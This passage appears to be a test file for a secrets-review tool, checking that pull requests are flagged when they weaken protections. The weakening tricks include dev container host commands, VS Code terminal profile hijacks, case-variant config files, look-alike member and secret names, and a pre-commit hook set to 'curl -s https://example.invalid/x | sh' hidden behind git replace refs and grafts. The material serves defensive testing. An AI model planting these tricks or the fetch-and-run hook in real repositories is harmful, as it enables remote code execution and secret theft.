      s.read(".devcontainer/devcontainer.json").replace(
        '"postCreateCommand": "npm ci",',
        '"postCreateCommand": "npm ci",\n  "initializeCommand": "./tools/prepare.sh",\n  "mounts": ["source=${localEnv:HOME}/.config/sops,target=/home/node/.config/sops,type=bind"],',
      ),
    );
    s.write("tools/prepare.sh", "#!/bin/sh\ntrue\n");
    s.commit("dev container: prepare on the host");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    // (and the script initializeCommand names, new: rt-review 7th follows the files a dev container file names)
    expect(problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/devcontainer.json"], ["weakened-rule", "tools/prepare.sh"]]);
    expect(problems[0]?.message).toContain(".devcontainer/devcontainer.json changes initializeCommand, localEnv, mounts: a dev container's initializeCommand runs on the member's own machine, outside the container");
    expect(problems[0]?.message).toMatch(/reviewed separately$/);
    expect(problems[0]?.message).not.toContain("stellarSecrets.cliPath is the program");
    expect(problems[0]?.message).not.toContain("user settings");
    // the container's own command: it runs with the member's SSH agent and git credentials, which Dev Containers forwards (rt-review 6th)
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".devcontainer/devcontainer.json", s.read(".devcontainer/devcontainer.json").replace('"npm ci"', '"npm ci && npm run build"'));
    s.commit("dev container: build after install");
    const after = await problemsOf(s);
    expect(after.code).toBe(1);
    expect(after.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/devcontainer.json"]]);
    expect(after.problems[0]?.message).toContain(".devcontainer/devcontainer.json changes postCreateCommand: a dev container's own commands");
    expect(after.problems[0]?.message).toContain("forwards the member's SSH agent and git credentials");
    // a field that decides nothing that runs (a forwarded port) is no concern of review's
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".devcontainer/devcontainer.json", s.read(".devcontainer/devcontainer.json").replace('"postCreateCommand"', '"forwardPorts": [3000],\n  "postCreateCommand"'));
    s.commit("dev container: a port");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags VS Code settings that choose the program a task or terminal runs (terminal.integrated.automationProfile and the like), which a task that runs on open then runs as the member", async () => {
    const s = await project();
    mkdirSync(join(s.repo, ".vscode"), { recursive: true });
    // the base: a task that runs on open (reviewed when it came), and editor settings
    s.write(".vscode/tasks.json", '{ "version": "2.0.0", "tasks": [{ "label": "deps", "type": "shell", "command": "npm ci", "runOptions": { "runOn": "folderOpen" } }] }\n');
    s.write(".vscode/settings.json", '{\n  "editor.tabSize": 2,\n}\n');
    s.commit("editor: install on open");
    s.git(["branch", "-f", "main", "HEAD"]);
    // the pull request: the shell every task runs in is a file of the repository (verified in code-server: it runs at the next open)
    s.write(".vscode/settings.json", '{\n  "editor.tabSize": 2,\n  "terminal.integrated.automationProfile.linux": { "path": "${workspaceFolder}/tools/sh" },\n}\n');
    s.write("tools/sh", '#!/bin/sh\nexec /bin/sh "$@"\n');
    s.commit("editor: a portable shell");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".vscode/settings.json"]]);
    expect(problems[0]?.message).toContain(".vscode/settings.json changes terminal.integrated.automationProfile.linux: VS Code takes a trusted workspace's terminal.integrated settings as its own");
    expect(problems[0]?.message).not.toContain("stellarSecrets.cliPath is the program");
    // another terminal setting is no concern of review's
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".vscode/settings.json", s.read(".vscode/settings.json").replace('"editor.tabSize": 2,', '"editor.tabSize": 2,\n  "terminal.integrated.fontSize": 13,'));
    s.commit("editor: font");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags a stellar.yaml new above a project in a subfolder: run from the top, stellar-secrets takes infra/secrets as that project's, with its members", async () => {
    const { s, infra } = await subfolderProject();
    const mallory = s.keygen("mallory");
    s.write("stellar.yaml", `version: 1\nsecrets_dir: infra/secrets\nenvironments:\n  production:\n    members:\n      mallory: ${mallory.recipient}\n`);
    // (the attacker's own pre-commit hook, run at the top, would refuse it: hooks are the committer's)
    s.git(["add", "-A"]);
    s.git(["commit", "-q", "--no-verify", "-m", "monorepo-wide project file"]);
    const { code, problems } = await problemsOf(s, "main..HEAD", infra);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "weakened-rule", file: "../stellar.yaml", line: 1 }]);
    expect(problems[0]?.message).toContain("is new above the project root: it makes the top of the repository a project that contains this one");
    // one the base already had is that project's own business (its review reads it)
    await expectCleanOnceInBase(s, infra);
  });

  it("flags a lone file that macOS and Windows open as .gitattributes, .sops.yaml or stellar.yaml (secrets/.GitAttributes with merge=union)", async () => {
    const s = await project();
    s.write("secrets/.GitAttributes", "*.enc.yaml merge=union\n");
    s.commit("attributes for the secrets folder");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "weakened-rule", file: "secrets/.GitAttributes" }]);
    expect(problems[0]?.message).toContain("secrets/.GitAttributes is secrets/.gitattributes on a case-insensitive or Unicode-normalising checkout");
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    const mallory = s.keygen("mallory");
    s.write("secrets/.SOPS.yaml", `creation_rules:\n  - age: ${mallory.recipient}\n`);
    s.commit("sops rules for the secrets folder");
    expect((await problemsOf(s)).problems).toMatchObject([{ kind: "weakened-rule", file: "secrets/.SOPS.yaml" }]);
  });

  it("flags a member added under a name that reads as another member's with another key (caroI, capital I, for carol of staging): the text read as carol gaining production", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    const carol = s.keygen("carol");
    expect((await s.run(["members", "add", "carol", carol.recipient, "--env", "staging"])).code).toBe(0);
    s.commit("carol in staging");
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    const mallory = s.keygen("mallory");
    const add = await s.run(["members", "add", "caroI", mallory.recipient, "--env", "production"]);
    expect(add.code, add.stderr).toBe(0);
    s.commit("carol to production");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "look-alike-name", environment: "production", file: "stellar.yaml" }]);
    expect(problems[0]?.message).toContain(`"caroI" gained access to production under a name that reads as "carol"'s (a member of staging, with another key`);
    const sarif = await review(s, ["main..HEAD", "--format", "sarif"]);
    const run = (JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string; level: string; locations?: { physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } } }[] }[] }[] }).runs[0]!;
    const result = run.results.find((r) => r.ruleId === "look-alike-name");
    expect(result?.level).toBe("error");
    const line = s.read("stellar.yaml").split("\n").findIndex((l) => l.trim().startsWith("caroI:")) + 1;
    expect(result?.locations?.[0]?.physicalLocation).toMatchObject({ artifactLocation: { uri: "stellar.yaml" }, region: { startLine: line } });
    // carol herself added to production (her own key) is no look-alike
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    expect((await s.run(["members", "add", "carol", carol.recipient, "--env", "production"])).code).toBe(0);
    s.commit("carol to production");
    expect((await problemsOf(s)).problems).toEqual([]);
  });

  it("flags a secret added under a name that reads as another's (hubsp0t_api_token, a zero, beside hubspot_api_token) with the connector's reference pointed at it: look-alike-name at the env file's line, in JSON, SARIF and text", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    s.write("connectors/hubspot.yaml", "kind: auth_connector\nname: hubspot\ntype: bearer_token\ntoken: { secret: hubspot_api_token }\n");
    s.commit("hubspot connector");
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    const set = await s.run(["set", "hubsp0t_api_token", "--env", "production", "--from-stdin"], { input: "attacker-chosen-value" });
    expect(set.code, set.stderr).toBe(0);
    s.write("connectors/hubspot.yaml", "kind: auth_connector\nname: hubspot\ntype: bearer_token\ntoken: { secret: hubsp0t_api_token }\n");
    s.commit("hubspot: token");
    const { code, problems: all } = await problemsOf(s);
    expect(code).toBe(1);
    // (the connector is used in staging too, where the name has no value: the checker's error of its own)
    const problems = all.filter((p) => p.kind === "look-alike-name");
    expect(problems).toMatchObject([{ kind: "look-alike-name", environment: "production", file: "secrets/production.enc.yaml" }]);
    expect(problems[0]?.message).toContain(`adds secret "hubsp0t_api_token", whose name reads as "hubspot_api_token"'s (a secret of production)`);
    expect(problems[0]?.message).toContain("connectors/hubspot.yaml:4 references it");
    const line = s.read("secrets/production.enc.yaml").split("\n").findIndex((l) => l.startsWith("hubsp0t_api_token:")) + 1;
    expect(line).toBeGreaterThan(0);
    const sarif = await review(s, ["main..HEAD", "--format", "sarif"]);
    const run = (JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string; level: string; locations?: { physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } } }[] }[] }[] }).runs[0]!;
    const result = run.results.find((r) => r.ruleId === "look-alike-name");
    expect(result?.level).toBe("error");
    expect(result?.locations?.[0]?.physicalLocation).toMatchObject({ artifactLocation: { uri: "secrets/production.enc.yaml" }, region: { startLine: line } });
    const text = await review(s, ["main..HEAD"]);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain(`reads as "hubspot_api_token"'s`);
    // a secret of its own name is none
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    expect((await s.run(["set", "hubspot_portal_id", "--env", "production", "--from-stdin"], { input: "12345" })).code).toBe(0);
    s.commit("portal id");
    expect((await problemsOf(s)).problems.map((p) => p.kind)).not.toContain("look-alike-name");
  });
});

describe("review reads the commits themselves, not what replace refs or a grafts file put in their place", () => {
  it("a head commit that changes a hook, replaced (refs/replace) by one that does not, is still weakened-rule; a grafts file hiding a commit of the range changes nothing", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_replace_0001"]]);
    s.write(".husky/pre-commit", "stellar-secrets pre-commit\n");
    const base = s.commit("hook");
    s.write("docs/readme.md", "x\n");
    const benign = s.commit("docs");
    s.git(["reset", "-q", "--hard", base]);
    s.write(".husky/pre-commit", "curl -s https://example.invalid/x | sh\n");
    const evil = s.commit("hook changed");
    // what a local `git replace` (or a replace ref fetched by a custom refspec) shows instead of the evil commit
    s.git(["replace", evil, benign]);
    const r = await s.run(["review", base, evil, "--json"]);
    expect(r.code, r.stderr).toBe(1);
    expect((JSON.parse(r.stdout) as { problems: { kind: string; file?: string }[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".husky/pre-commit"]]);
    s.git(["replace", "-d", evil]);
    // a grafts file making the evil commit a root (no parent): the range base..evil is still read as git stores it
    writeFileSync(join(s.repo, ".git", "info", "grafts"), `${evil}\n`);
    const g = await s.run(["review", base, evil, "--json"]);
    expect(g.code, g.stderr).toBe(1);
    expect((JSON.parse(g.stdout) as { problems: { kind: string; file?: string }[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".husky/pre-commit"]]);
  });
});
